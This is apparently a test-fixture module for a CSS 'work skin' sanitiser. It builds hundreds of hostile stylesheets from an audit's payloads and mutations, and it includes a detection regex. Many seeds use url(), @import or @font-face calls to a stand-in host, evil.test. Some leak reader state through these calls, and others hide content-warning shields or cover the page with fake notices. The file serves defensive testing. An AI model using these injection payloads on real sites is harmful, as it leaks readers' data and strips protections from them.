// Hostile work skins for the sanitiser's browser tests (work-skin.e2e.mjs): the audit's payloads
// (../shared/security/audit-2026-11.md, F1 and F2) and seeded mutations of them. Every request a
// payload could make goes to evil.test, so "no request" is one host to watch.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import ts from 'typescript';
import { ROOT } from './harness.mjs';

/** The audit's F1 payload: comment re-formation smuggles rules past a text filter. */
export const REFORMATION_PAYLOAD = `#workskin .z1 { //**/* }
#workskin */ } [data-testid=rd-close] { display: none !important }
#workskin .z2 { //**/* }
#workskin */ } .gr-warning[data-category=heartbreak] { //**/* }
#workskin */ background-image: url(http://evil.test/leak?reader-follows=heartbreak) } #workskin .zz { color: red }
#workskin .z3 { //**/* }
#workskin */ } .rd-theme-dark { //**/* }
#workskin */ background-image: url(http://evil.test/leak?theme=dark) } #workskin .zy { color: red }
#workskin .fine { color: rgb(10, 20, 30) }`;

/** The audit's F2 payload: rules correctly under #workskin that unshield passages and cover the bar. */
export const SCOPED_PAYLOAD = `#workskin::before { content: "Gentle Reader checked this work: no content warnings. (fake)"; position: fixed;
  top: 0; left: 0; right: 0; height: 120px; z-index: 2147483647; background: #fdf8ee; padding: 20px; font: 20px system-ui }
#workskin > p:first-child::before { content: "fake notice"; position: fixed; top: 0; left: 0; right: 0; height: 150px; z-index: 2147483647; background: #fdf8ee }
#workskin .rd-covered { filter: none !important }
#workskin .rd-shield-cover { display: none !important }
#workskin .rd-shield-content { display: block !important }
#workskin div { filter: none !important; display: block !important }
#workskin * { filter: none !important }
#workskin p { opacity: 0 !important }
#workskin ~ nav { display: none }
#workskin .ok { color: rgb(1, 2, 3) }`;

const SEEDS = [
  REFORMATION_PAYLOAD,
  SCOPED_PAYLOAD,
  '#workskin .a { background: url(http://evil.test/a.png); color: red }',
  '#workskin .a { background: URL( "http://evil.test/a2.png" ) }',
  '@import url(http://evil.test/i.css); @import "http://evil.test/i2.css"; #workskin .b { font-weight: bold }',
  '@font-face { font-family: Evil; src: url(http://evil.test/f.woff) } #workskin .c { font-family: Evil }',
  '@media all { @font-face { font-family: E2; src: url(http://evil.test/f2.woff) } #workskin .c2 { font-family: E2 } }',
  '#workskin .d { background-image: image-set("http://evil.test/s.png" 1x); border-image: -webkit-image-set("http://evil.test/s2.png" 1x) 30 }',
  '#workskin .e { background: \\75 rl(http://evil.test/e.png) } #workskin .e2 { background: u\\rl(http://evil.test/e2.png) }',
  '#workskin .f { --x: url(http://evil.test/v.png); background-image: var(--x) }',
  '@supports (color: red) { .outside { background: url(http://evil.test/sup.png) } #workskin .g { color: red } }',
  '@layer base { .outside { display: none } #workskin .h { color: blue } }',
  '@container (min-width: 1px) { .outside { display: none; background: url(http://evil.test/ct.png) } }',
  '#workskin .i { color: red; & .j { color: blue } .outside & { display: none } } .outside { display: none }',
  '#workskin ~ .outside { display: none } #workskin + .outside { display: none } #workskin , .outside { display: none }',
  ':host { display: none } :root .outside { display: none } .outside { display: none } * { background: url(http://evil.test/all.png) }',
  '#workskin .k { cursor: url(http://evil.test/c.cur), auto; list-style-image: url(http://evil.test/l.png); border-image-source: url(http://evil.test/b.png) }',
  '#workskin .l { -webkit-mask-image: url(http://evil.test/m.png); mask: url(http://evil.test/m2.png); shape-outside: url(http://evil.test/so.png); clip-path: url(http://evil.test/cp.svg#x) }',
  '#workskin .m::after { content: attr(data-x) url(http://evil.test/ct.png) }',
  '#workskin .n { background: cross-fade(url(http://evil.test/x.png), url(http://evil.test/y.png), 50%); background-image: image(url(http://evil.test/im.png)) }',
  '#workskin .o { background: src("http://evil.test/src.png"); background-image: element(#x); background: paint(x) }',
  '#workskin .p\\,body { display: none } #work\\73 kin .q { color: red } #workskin .r\\}.outside { display:none }',
  '#workskin .s { background-image: url(http://evil.test/s.png) !important; filter: url(http://evil.test/f.svg#f) }',
  '@namespace x url(http://evil.test/ns); @page { background: url(http://evil.test/page.png) } @keyframes k { from { background: url(http://evil.test/k.png) } }',
  '@media screen and (min-width: 0) { @media all { #workskin .t { background: url(http://evil.test/mm.png); color: red } .outside { display: none } } }',
  '#workskin .u { behavior: url(http://evil.test/x.htc); -moz-binding: url(http://evil.test/x.xml#b) }',
  '#workskin .v { background: url(http://evil.test/unclosed.png',
  '#workskin .w { content: "\\"; } .outside { display: none } /*" }',
  '<!-- #workskin .x { color: red } --> .outside { display: none } <![CDATA[ ]]>',
  '#workskin :is(.a, .outside) { color: red } #workskin :not(.b) ~ .outside { display: none } #workskin :has(.c) { color: red }',
  '#workskin .y { background: #fff url("http://evil.test/y.png") no-repeat; font: 12px/1 "x" }',
  '#workskin\t.tab { color: red } #workskin\n.newline { color: blue } #workskin>.child { color: green }',
  '@import url(http://evil.test/late.css); #workskin .late { color: red } @import "http://evil.test/late2.css";',
  '#workskin .z { background-image: linear-gradient(red, url(http://evil.test/lg.png)) }',
];

/** A small seeded PRNG (mulberry32): the same payloads on every run. */
function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const MUTATIONS = [
  (s, r, at) => s.slice(0, at) + '/**/' + s.slice(at), // a comment anywhere
  (s, r, at) => s.slice(0, at) + '//**/*' + s.slice(at), // comment re-formation
  (s, r, at) => s.slice(0, at) + '*/' + s.slice(at),
  (s, r, at) => s.slice(0, at) + '{}();:"\'\\@*/,<>!'[Math.floor(r() * 16)] + s.slice(at), // a broken token
  (s, r, at) => { // a letter written as a CSS escape
    const i = s.slice(at).search(/[a-z]/i);
    return i < 0 ? s : s.slice(0, at + i) + `\\${s.charCodeAt(at + i).toString(16)} ` + s.slice(at + i + 1);
  },
  (s, r, at) => s.slice(0, at) + s.slice(at, at + 12).toUpperCase() + s.slice(at + 12),
  (s) => `@media all { ${s} }`,
  (s) => `@supports (display: block) { ${s} }`,
  (s) => `@layer x { ${s} }`,
  (s) => `@container (min-width: 0) { ${s} }`,
  (s) => `#workskin .nest { ${s} }`,
  (s) => s.replace(/(background|mask|content|cursor|filter)/i, '-webkit-$1'),
  (s, r, at) => s.slice(0, at), // cut short
  (s, r, at) => s + s.slice(at), // a tail repeated
  (s, r) => s.replace(/url\(/i, ['url (', 'URL(', 'u\\rl(', 'ur/**/l(', 'url(/**/'][Math.floor(r() * 5)]),
  (s) => s.replace(/url\(/gi, 'u\\72 l('),
  (s) => s.replace(/#workskin/g, '#WORKSKIN'),
  (s) => s.replace(/ /g, '\n'),
];

/** `count` hostile skins: the seeds themselves, then each one mutated one to three times. */
export function hostileSkins(count = 400, seed = 13) {
  const r = random(seed);
  const out = [...SEEDS];
  while (out.length < count) {
    let css = SEEDS[Math.floor(r() * SEEDS.length)];
    const times = 1 + Math.floor(r() * 3);
    for (let k = 0; k < times; k++) css = MUTATIONS[Math.floor(r() * MUTATIONS.length)](css, r, Math.floor(r() * (css.length + 1)));
    out.push(css);
  }
  return out;
}

/** lib/reader/work-skin.ts as a browser module (types stripped; it imports nothing). */
export function sanitiserModule() {
  const source = readFileSync(path.join(ROOT, 'lib/reader/work-skin.ts'), 'utf8');
  const { outputText } = ts.transpileModule(source, { compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 } });
  return `${outputText}\nwindow.__workSkin = { sanitizeWorkSkin, SKIN_SCOPE };`;
}

/**
 * Runs in the page: sanitises every skin with the real sanitiser, then checks each result with the
 * browser's own parse, independently of the sanitiser's logic: only style and @media rules; no
 * selector matches anything outside #workskin (in a fixture holding the reader's own elements too)
 * or names the reader's classes; no fetching or reading function, no escape; sanitising
 * again changes nothing. Then applies everything and reports what the outside looks like.
 */
export async function checkInPage(skins) {
  const { sanitizeWorkSkin } = window.__workSkin;
  const make = () => new CSSStyleSheet();
  const host = document.createElement('div');
  document.body.append(host);
  const root = host.attachShadow({ mode: 'open' });
  root.innerHTML = `<div class="rd-dialog rd-theme-dark" data-testid="rd-dialog"><nav class="outside" data-testid="outside-nav">nav</nav>
    <div class="rd-bar outside"><button class="outside" data-testid="rd-close">Close reader</button></div>
    <section class="gr-warning outside" data-category="heartbreak">Heartbreak</section>
    <div class="rd-skin-box outside"><div id="workskin"><p class="a b c fine">One</p><div class="rd-shield rd-shield-blur"><button class="rd-shield-cover">show</button>
    <div class="rd-shield-content rd-covered"><p class="z zz i j k l m n o p q r s t u v w x y">Two</p></div></div>
    <p class="nest tab newline child late ok">Three <span class="inner">span</span></p></div></div>
    <div class="outside" data-testid="after">after</div></div>`;
  const workskin = root.getElementById('workskin');
  const FETCHING = /(?:url|image|image-set|cross-fade|element|src|paint|attr|var|env|expression)\s*\(|\\|@import|@font-face/i;
  const failures = [];
  const outputs = [];
  for (const css of skins) {
    const out = sanitizeWorkSkin(css, make);
    outputs.push(out);
    const sheet = make();
    sheet.replaceSync(out);
    const problems = [];
    const walk = (rules) => {
      for (const rule of rules) {
        if (rule.type === 4) walk(rule.cssRules);
        else if (rule.type !== 1) problems.push(`a rule of type ${rule.type}: ${rule.cssText}`);
        else {
          if (rule.cssRules?.length) problems.push(`nested rules: ${rule.cssText}`);
          let matched = [];
          try { matched = [...root.querySelectorAll(rule.selectorText)]; } catch { problems.push(`unusable selector ${rule.selectorText}`); }
          for (const el of matched) {
            if (!workskin.contains(el)) problems.push(`${rule.selectorText} reaches outside (${el.className || el.tagName})`);
          }
          if (/\.(rd|gr)-|\[/.test(rule.selectorText)) problems.push(`${rule.selectorText} names the reader's own classes or attributes`);
          if (FETCHING.test(rule.style.cssText)) problems.push(`a fetching or reading value: ${rule.style.cssText}`);
        }
      }
    };
    walk(sheet.cssRules);
    if (FETCHING.test(out)) problems.push('a fetching function or escape in the text');
    if (sanitizeWorkSkin(out, make) !== out) problems.push('not stable when sanitised again');
    if (problems.length) failures.push({ css, out, problems });
  }
  // Everything applied at once, in the fixture: no request may leave, nothing outside may change.
  const style = document.createElement('style');
  style.textContent = outputs.join('\n');
  root.prepend(style);
  for (const el of root.querySelectorAll('*')) for (const pseudo of [null, '::before', '::after']) {
    const s = getComputedStyle(el, pseudo);
    void (s.backgroundImage + s.listStyleImage + s.cursor + s.content + s.fontFamily + s.maskImage + s.borderImageSource);
  }
  await document.fonts.ready;
  await new Promise((r) => setTimeout(r, 300));
  const outside = [...root.querySelectorAll('.outside')].map((el) => getComputedStyle(el).display);
  host.remove();
  return { failures, outside, kept: outputs.filter(Boolean).length };
}
